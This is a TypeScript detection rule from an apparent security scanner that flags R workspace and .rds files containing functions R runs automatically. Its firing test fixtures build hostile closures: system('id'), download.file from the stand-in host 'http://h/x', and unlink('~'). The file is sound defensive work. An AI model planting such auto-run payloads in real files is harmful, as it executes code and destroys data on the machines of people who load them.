import { type RSight, writeR } from '../../../../formats/rdata/index.ts'
import type { ModelRule, Observation } from '../../rule.ts'
import { rCall, rdaFile, rdsFile, rEnvironment, rFunction, rList, rSymbol, rText } from './craft-r.ts'
import { isReached, isStartup, worstAct } from './judge-r.ts'

const attack = rFunction(rCall('system', rText('id')))

export const rAutoRun: ModelRule = {
  id: 'r/auto-run',
  severity: 'critical',
  verdict: 'malicious',
  title: 'A function that R calls by itself acts on the machine',
  source: 'https://stat.ethz.ch/R-manual/R-devel/library/base/html/Startup.html',
  taxonomy: ['CWE-506', 'CWE-94', 'AML.T0011.000'],
  why: 'R calls such a function without being asked: at start or end of a session, when a variable is read, or when an object of its class is printed. It starts programs, fetches code or changes files.',
  remedy: 'Do not load the workspace. Ask for the model alone, saved with saveRDS.',
  examples: {
    fires: [
      rdaFile({ '.First': attack }),
      rdaFile({ model: rList({ a: rText('x') }, 'evil'), 'print.evil': attack }),
      rdaFile({
        summary: rFunction(rCall('{', rCall('download.file', rText('http://h/x'), rText('/tmp/x')))),
      }),
      rdsFile(rEnvironment({ '!value': attack })),
      rdaFile({ '.Last': rFunction(rCall('unlink', rText('~'))) }),
    ],
    silent: [
      rdaFile({ model: rList({ a: rText('x') }, 'lm'), 'print.mine': rFunction(rCall('cat', rSymbol('x'))) }),
      rdsFile(rEnvironment({ '!value': rFunction(rCall('+', rSymbol('x'), rSymbol('y'))) })),
      rdaFile({ '.Random.seed': rText('1') }),
    ],
  },
  check: (subject) => (subject.kind === 'rdata' ? subject.view.sights.flatMap(observe) : []),
}

function observe(sight: RSight): Observation[] {
  // A function inside an expression is looked at with it.
  if (sight.kind !== 'closure' || sight.position === 'code') return []
  const reason = reasonOf(sight)
  if (reason === undefined) return []
  const act = worstAct(sight.closure.body, 'enter') ?? worstAct(sight.closure.formals, 'enter')
  // A method may well write a file; a function that runs at start may not.
  if (act === undefined || act.deed === 'opaque' || (act.deed === 'write' && !isStartup(sight.name ?? '')))
    return []
  const message = `${sight.path} ${reason}, and runs ${act.name}: ${act.call}`
  return [{ key: sight.path, message, offset: sight.offset, call: writeR(sight.closure) }]
}

function reasonOf(sight: RSight & { readonly kind: 'closure' }): string | undefined {
  if (sight.isActive) return 'is an active binding, called whenever it is read'
  if (sight.position !== 'binding' || sight.name === undefined) return undefined
  if (isStartup(sight.name)) return 'is called by R at the start or end of a session'
  return isReached(sight.name) ? 'replaces a function or method that R calls' : undefined
}
